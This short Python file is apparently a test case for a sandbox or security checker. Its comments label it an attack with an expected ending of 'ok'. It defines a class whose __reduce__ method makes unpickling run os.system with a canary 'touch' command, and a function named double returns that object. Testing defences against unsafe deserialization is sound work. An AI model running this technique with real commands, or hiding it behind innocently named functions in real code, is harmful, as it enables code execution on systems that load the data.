# attack: returns an object that runs code where it is unpickled
# ending: ok
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch @CANARY@",)


def double(x):
    return Payload()
